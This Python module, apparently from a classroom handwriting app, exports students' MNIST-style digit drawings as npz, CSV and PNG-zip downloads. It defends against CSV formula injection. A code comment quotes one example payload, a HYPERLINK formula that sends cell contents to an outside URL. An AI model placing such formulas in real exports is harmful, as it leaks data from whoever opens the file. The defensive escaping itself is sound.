"""The class's digits as files: MNIST's npz layout (for `python -m lenet evaluate --data`), CSV, a zip of PNGs.
Each function returns bytes, so the app can offer them as downloads and the CLI can write them.

A class's lesson row (classroom/lesson.py: the mode, tab, lab settings and pushed input its teacher chose) is
not exported: it holds no student data (a pushed wall drawing is only its id; its pixels are the drawing's,
exported with it). It is erased with the class (ON DELETE CASCADE)."""

import csv
import io
import zipfile

import numpy as np
from PIL import Image

from classroom.records import Drawing, student_numbers

CSV_COLUMNS = ("id", "meant", "answered", "confidence", "time", "alias")
# A cell starting with one of these is a formula to Excel, LibreOffice and Google Sheets: an alias such as
# =HYPERLINK("http://…?"&A1) would run when the teacher opens the CSV. OWASP's rule: start it with a quote.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def to_npz(drawings: list[Drawing]) -> bytes:
    """MNIST's layout, like Keras' mnist.npz: every digit in the test split, x_test (N, 28, 28) uint8 and
    y_test (N,) uint8 = what the students meant (`python -m lenet evaluate --data` reads these), an empty
    train split; student_test (N,) int32 = one number per sender, so `python -m train --init MODEL --data`
    holds back whole students (train/finetune_cli.py); ids (N,) to find each digit in the CSV."""
    x = np.stack([d.pixels for d in drawings]) if drawings else np.zeros((0, 28, 28), np.uint8)
    buffer = io.BytesIO()
    np.savez_compressed(
        buffer,
        x_test=x,
        y_test=np.array([d.meant for d in drawings], np.uint8),
        student_test=student_numbers(drawings),
        ids=np.array([d.id for d in drawings], np.int64),
        x_train=np.zeros((0, 28, 28), np.uint8),
        y_train=np.zeros(0, np.uint8),
        student_train=np.zeros(0, np.int32),
    )
    return buffer.getvalue()


def to_csv(drawings: list[Drawing]) -> bytes:
    """One row per drawing: id, meant, answered, confidence, time (UTC, ISO 8601), alias (never a formula)."""
    text = io.StringIO()
    writer = csv.writer(text)
    writer.writerow(CSV_COLUMNS)
    for d in drawings:
        cells = [d.id, d.meant, d.answered, f"{d.confidence:.4f}", d.created_at.isoformat(), d.alias or ""]
        writer.writerow([inert(str(cell)) for cell in cells])
    return text.getvalue().encode()


def inert(cell: str) -> str:
    """`cell` as a spreadsheet shows it but never runs it (a leading ' when it would start a formula)."""
    return "'" + cell if cell.startswith(FORMULA_STARTS) else cell


def png_name(d: Drawing) -> str:
    return f"{d.id:05d}_meant{d.meant}_answered{d.answered}.png"


def to_png_zip(drawings: list[Drawing]) -> bytes:
    """A zip of 28x28 greyscale PNGs (white ink on black, as MNIST), named id_meantM_answeredA.png."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for d in drawings:
            png = io.BytesIO()
            Image.fromarray(d.pixels, mode="L").save(png, format="PNG")
            archive.writestr(png_name(d), png.getvalue())
    return buffer.getvalue()
